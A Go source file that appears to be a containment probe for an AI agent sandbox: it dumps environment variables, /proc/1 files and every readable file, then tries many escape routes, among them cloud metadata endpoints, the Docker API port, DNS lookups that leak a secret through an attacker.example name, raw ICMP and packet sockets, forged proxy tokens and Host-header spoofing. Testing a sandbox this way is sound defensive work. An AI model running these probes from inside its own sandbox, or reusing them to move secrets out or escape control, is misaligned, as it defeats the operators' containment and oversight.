package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

const patience = 3 * time.Second

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "probe read | reach HOST:PORT… | ask METHOD URL TOKEN IDENTITY BODY")
		os.Exit(2)
	}
	if os.Args[1] == "read" {
		read(os.Stdout)
		return
	}
	if os.Args[1] == "ask" && len(os.Args) == 7 {
		fmt.Println(tell(os.Args[2], os.Args[3], os.Args[4], os.Args[5], os.Args[6]))
		return
	}
	if reached := reach(os.Stdout, os.Args[2:]); reached {
		os.Exit(1)
	}
}

// read prints all that a process of this user can read.
func read(w io.Writer) {
	for _, v := range os.Environ() {
		_, _ = fmt.Fprintln(w, v)
	}
	for _, name := range []string{"environ", "mem", "maps", "cmdline", "root", "cwd", "fd"} {
		b, err := os.ReadFile("/proc/1/" + name) // #nosec G304 G122 -- that is what it is for
		_, _ = fmt.Fprintf(w, "/proc/1/%s: %s %v\n", name, b, cause(err))
	}
	_ = filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		if err != nil || (d.IsDir() && (path == "/proc" || path == "/sys" || path == "/dev")) {
			return skip(d)
		}
		if d.Type().IsRegular() && path != os.Args[0] && path != "/agent" {
			b, err := os.ReadFile(path) //nolint:gosec // that is what it is for
			_, _ = fmt.Fprintf(w, "%s: %s %v\n", path, b, cause(err))
		}
		return nil
	})
}

func skip(d fs.DirEntry) error {
	if d != nil && d.IsDir() {
		return fs.SkipDir
	}
	return nil
}

func cause(err error) error {
	var path *fs.PathError
	if errors.As(err, &path) {
		return path.Err
	}
	return err
}

// reach tries every way out, and reports whether one led anywhere.
func reach(w io.Writer, targets []string) (reached bool) {
	say := func(what string, open bool, how any) {
		verdict := "closed"
		if open {
			verdict, reached = "OPEN", true
		}
		_, _ = fmt.Fprintf(w, "%-6s %s: %v\n", verdict, what, how)
	}
	for _, addr := range append(targets,
		"1.1.1.1:443", "8.8.8.8:53", "[2606:4700:4700::1111]:443", "169.254.169.254:80", "169.254.170.2:80", "100.100.100.200:80", "100.64.0.200:80",
		"10.0.0.1:80", "172.17.0.1:22", "172.17.0.1:80", "172.17.0.1:2375", "192.168.0.1:80", "[fd00:ec2::254]:80") {
		text, open := talk(addr)
		say("tcp "+addr, open, text)
	}
	for _, name := range []string{"example.com", "metadata.google.internal", "gateway.docker.internal", "localhost.localdomain", "secret-1234.attacker.example", "internal"} {
		ctx, cancel := context.WithTimeout(context.Background(), patience)
		addrs, err := net.DefaultResolver.LookupHost(ctx, name)
		cancel()
		say("name "+name, err == nil, fmt.Sprint(addrs, err))
	}
	for _, server := range []string{"8.8.8.8:53", "1.1.1.1:53", "127.0.0.11:53", "172.17.0.1:53"} {
		text, open := ask(server, "attacker")
		say("dns "+server, open, text)
	}
	for _, kind := range []int{syscall.SOCK_RAW, syscall.SOCK_DGRAM} {
		fd, err := syscall.Socket(syscall.AF_INET, kind, syscall.IPPROTO_ICMP)
		if err == nil {
			err = syscall.Sendto(fd, []byte{8, 0, 0xf7, 0xff, 0, 0, 0, 0}, 0, &syscall.SockaddrInet4{Addr: [4]byte{8, 8, 8, 8}})
			_ = syscall.Close(fd)
		}
		say(fmt.Sprintf("icmp socket kind %d", kind), err == nil, err)
	}
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0)
	if err == nil {
		_ = syscall.Close(fd)
	}
	say("packet socket", err == nil, err)
	for _, url := range []string{
		"http://r2.internal/store?list-type=2", "http://r2.internal/store/config/SOUL.md", "http://llm.internal/openai/chat/completions", "http://web.internal/?url=https://example.com/", "http://mcp.internal/servers",
	} {
		for _, token := range []string{"", "0000000000000000000000000000000000000000000000000000000000000000"} {
			status, body := get(url, "", token)
			say(fmt.Sprintf("egress %s with the token %.4q", url, token), status != http.StatusForbidden, fmt.Sprint(status, " ", body))
		}
	}
	for _, host := range []string{"example.com", "127.0.0.1", "169.254.169.254", "api.cloudflare.com"} {
		status, body := get("http://r2.internal/", host, "")
		say("r2.internal's address in the name of "+host, status < 400, fmt.Sprint(status, " ", body))
	}
	return reached
}

// talk reports whether anything at all comes back from an address. Something
// between may take a connection and drop it.
func talk(addr string) (string, bool) {
	conn, err := net.DialTimeout("tcp", addr, patience) // #nosec G704 -- that is what it is for
	if err != nil {
		return err.Error(), false
	}
	defer func() { _ = conn.Close() }()
	_ = conn.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(conn, "GET / HTTP/1.0\r\nHost: "+addr+"\r\n\r\n"); err != nil {
		return err.Error(), false
	}
	b, err := io.ReadAll(io.LimitReader(conn, 200))
	return fmt.Sprintf("%q %v", b, err), len(b) > 0
}

// ask sends a look-up by hand. An answer that names an address is a way out.
func ask(server, name string) (string, bool) {
	conn, err := net.DialTimeout("udp", server, patience)
	if err != nil {
		return err.Error(), false
	}
	defer func() { _ = conn.Close() }()
	query := []byte{0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, byte(len(name))} // #nosec G115 -- names of one label, below 64 bytes
	query = append(append(query, name...), 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o', 'm', 0, 0, 1, 0, 1)
	_ = conn.SetDeadline(time.Now().Add(patience))
	if _, err := conn.Write(query); err != nil {
		return err.Error(), false
	}
	answer := make([]byte, 512)
	n, err := conn.Read(answer)
	if err != nil {
		return err.Error(), false
	}
	code := answer[3] & 15
	return fmt.Sprintf("%d bytes, code %d", n, code), code == 0
}

// tell asks the egress proxy as whoever has taken over the agent could, and says what
// came of it.
func tell(method, url, token, identity, body string) string {
	ctx, cancel := context.WithTimeout(context.Background(), 10*patience)
	defer cancel()
	q, err := http.NewRequestWithContext(ctx, method, url, strings.NewReader(body)) // #nosec G704 -- that is what it is for
	if err != nil {
		return err.Error()
	}
	for name, value := range map[string]string{"X-LoongClaw-Door": token, "X-LoongClaw-Server-Id": identity, "Content-Type": "application/json", "Accept": "application/json, text/event-stream"} {
		q.Header.Set(name, value)
	}
	if method == http.MethodPut {
		q.Header.Set("If-None-Match", "*")
	}
	res, err := http.DefaultClient.Do(q) // #nosec G704 -- likewise
	if err != nil {
		return err.Error()
	}
	defer func() { _ = res.Body.Close() }()
	b, _ := io.ReadAll(io.LimitReader(res.Body, 64<<10))
	return fmt.Sprint(res.StatusCode, " ", res.Header, " ", string(b))
}

func get(url, host, token string) (int, string) {
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	q, err := http.NewRequestWithContext(ctx, http.MethodGet, url, http.NoBody)
	if err != nil {
		return 0, err.Error()
	}
	if host != "" {
		q.Host = host
	}
	if token != "" {
		q.Header.Set("X-LoongClaw-Door", token)
	}
	res, err := http.DefaultClient.Do(q)
	if err != nil {
		return 599, err.Error()
	}
	defer func() { _ = res.Body.Close() }()
	b, _ := io.ReadAll(io.LimitReader(res.Body, 200))
	return res.StatusCode, strings.TrimSpace(string(b))
}
